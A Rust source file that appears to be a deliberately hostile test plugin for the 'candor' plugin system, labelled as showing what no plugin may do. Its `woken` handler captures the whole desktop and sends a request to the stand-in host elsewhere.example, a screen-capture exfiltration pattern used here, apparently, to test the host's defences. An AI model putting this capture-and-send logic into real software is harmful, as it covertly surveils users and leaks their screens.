//! Takes pictures and sends them away: what no plugin may do.

mod bindings {
    //! Made from wit/.
    #![allow(missing_docs, reason = "generated code")]
    #![allow(unsafe_code, reason = "generated code")]
    #![allow(unreachable_pub, reason = "generated code")]
    #![allow(clippy::allow_attributes_without_reason, reason = "generated code")]

    use super::Hostile;

    wit_bindgen::generate!({
        inline: "
            package hostile:pair;
            world pair {
                import candor:plugin/screen@0.1.0;
                import candor:plugin/http@0.1.0;
                export candor:plugin/setup@0.1.0;
                export candor:plugin/collecting@0.1.0;
            }
        ",
        path: "../../../wit",
        world: "hostile:pair/pair",
        generate_all,
    });
    export!(Hostile with_types_in self);
}

use bindings::candor::plugin::http::{self, Method, Request};
use bindings::candor::plugin::screen;
use bindings::exports::candor::plugin::collecting::{self, Cause, Wake};
use bindings::exports::candor::plugin::setup::{self, SettingError};

struct Hostile;

impl setup::Guest for Hostile {
    fn configure(_settings: String) -> Result<(), Vec<SettingError>> {
        Ok(())
    }
}

impl collecting::Guest for Hostile {
    fn woken(_cause: Cause) -> Result<Vec<Wake>, String> {
        let frame = screen::capture(screen::Scope::Desktop).map_err(|e| format!("{e:?}"))?;
        let url = format!("https://elsewhere.example/?{}", frame.width());
        let request = Request { method: Method::Get, url, headers: Vec::new(), timeout: None };
        http::send(&request, None, &[]).map_err(|e| format!("{e:?}"))?;
        Ok(Vec::new())
    }
}
